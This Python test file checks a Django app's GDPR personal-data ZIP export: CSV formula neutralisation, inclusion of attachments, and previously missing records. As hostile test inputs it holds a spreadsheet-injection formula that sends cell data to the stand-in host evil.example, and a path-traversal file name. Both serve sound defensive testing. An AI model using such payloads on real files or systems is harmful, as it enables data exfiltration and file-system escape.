"""The person's own data export (GDPR art. 15 and 20): what the ZIP holds, and that it is safe to open."""

import csv
import io
import json
import zipfile

from django.utils import timezone

from openbilan.coaching.models import CoachNote
from openbilan.csvfile import FORMULA_STARTS
from openbilan.privacy import export
from tests.accounts.factories import OrganisationFactory
from tests.projects.factories import bilan

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'


def _csv_rows(archive: zipfile.ZipFile, name: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))


def test_a_coach_note_and_an_organisation_named_like_a_formula_come_out_neutralised(db):
    """Issue 16, finding 8: the person's own CSV files (coach notes included) ran formulas in a spreadsheet."""
    enrolment = bilan()
    enrolment.prescriber = OrganisationFactory(prescriber=True, name=HOSTILE)
    enrolment.save(update_fields=["prescriber"])
    CoachNote.objects.create(enrolment=enrolment, author=enrolment.coach, body=HOSTILE, created_at=timezone.now())
    CoachNote.objects.create(enrolment=enrolment, author=enrolment.coach, body="@SUM(1+1)", created_at=timezone.now())
    archive = zipfile.ZipFile(io.BytesIO(export.zip_for(enrolment.beneficiary)))
    notes = _csv_rows(archive, "csv/coaching-coach_notes.csv")
    enrolments = _csv_rows(archive, "csv/programmes-enrolments.csv")
    assert "'" + HOSTILE in [cell for row in notes for cell in row]
    assert "'@SUM(1+1)" in [cell for row in notes for cell in row]
    assert "'" + HOSTILE in [cell for row in enrolments for cell in row]
    for name in archive.namelist():
        if name.endswith(".csv"):
            cells = [cell for row in _csv_rows(archive, name) for cell in row]
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
    # The JSON files keep the text exactly as written: they are data, not spreadsheets.
    notes_json = json.loads(archive.read("coaching.json"))["coach_notes"]
    assert HOSTILE in [note["note"] for note in notes_json]


def test_the_zip_holds_the_persons_attachment_files(client, db):
    """Issue 16, finding 9: the personal data ZIP left out the files sent in the messages (both ways)."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from openbilan.coaching import services as coaching
    from openbilan.coaching.models import Attachment
    from tests.coaching.factories import followed
    from tests.coaching.test_filetypes import PDF, PNG

    enrolment = followed()
    person = enrolment.beneficiary
    coaching.send_message(
        enrolment=enrolment,
        sender=person,
        body="Mon CV",
        files=[SimpleUploadedFile("Mon CV.pdf", PDF)],
        notify=False,
    )
    coaching.send_message(
        enrolment=enrolment,
        sender=enrolment.coach,
        body="Une fiche",
        files=[SimpleUploadedFile("Mon CV.pdf", PDF), SimpleUploadedFile("schéma.png", PNG)],
        notify=False,
    )
    other = followed()  # somebody else's file never comes along
    coaching.send_message(
        enrolment=other, sender=other.beneficiary, body="x", files=[SimpleUploadedFile("autre.png", PNG)], notify=False
    )
    # A name stored by an older upload path, hostile: it must not make a folder or climb out of the ZIP's folder.
    Attachment.objects.filter(message__sender=person).update(name="..\\..\\x/../Mon CV.pdf")
    client.force_login(person)
    response = client.get(reverse("privacy:download"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    files = sorted(name for name in archive.namelist() if name.startswith("pieces-jointes/"))
    assert len(files) == 3, files
    assert [archive.read(name) for name in files if name.endswith(".pdf")] == [PDF, PDF]
    assert [archive.read(name) for name in files if name.endswith(".png")] == [PNG]
    assert all(".." not in name and name.count("/") == 1 for name in files)
    assert not [name for name in archive.namelist() if "autre" in name]
    listed = json.loads(archive.read("coaching.json"))["attachment_files"]
    assert sorted(item["file"] for item in listed) == files
    assert sorted(item["name"] for item in listed) == ["..\\..\\x/../Mon CV.pdf", "Mon CV.pdf", "schéma.png"]


def test_the_zip_holds_what_was_left_out_before_each_domain_wrote_its_own_part(db):
    """Issue 17: the hand-wired export left out the linked identities, the referrals about the person and their
    e-mail preference, though erasure deletes or blanks them."""
    from openbilan.identity.models import ExternalIdentity, Provider
    from openbilan.journeys.models import EmailPreference
    from openbilan.programmes.models import Referral

    enrolment = bilan()
    person = enrolment.beneficiary
    ExternalIdentity.objects.create(user=person, provider=Provider.FRANCECONNECT, sub="abc", linked_at=timezone.now())
    Referral.objects.create(
        programme=enrolment.programme,
        prescriber=OrganisationFactory(prescriber=True, name="Agence Caen"),
        first_name="Léa",
        last_name="Orientée",
        email=person.email.upper(),
        state="invited",
    )
    Referral.objects.create(
        programme=enrolment.programme,
        prescriber=OrganisationFactory(prescriber=True),
        first_name="Autre",
        last_name="Personne",
        email="autre@example.org",
        state="invited",
    )
    EmailPreference.objects.create(user=person, reminders=False)
    archive = zipfile.ZipFile(io.BytesIO(export.zip_for(person)))
    identities = json.loads(archive.read("identity.json"))["external_identities"]
    assert [(i["provider"], i["sub"]) for i in identities] == [("franceconnect", "abc")]
    referrals = json.loads(archive.read("programmes.json"))["referrals"]
    assert [(r["prescriber"], r["last_name"]) for r in referrals] == [("Agence Caen", "Orientée")]
    assert "created_by" not in referrals[0]
    assert json.loads(archive.read("journeys.json"))["email_preference"] == {"reminders": False}
    assert "csv/programmes-referrals.csv" in archive.namelist()
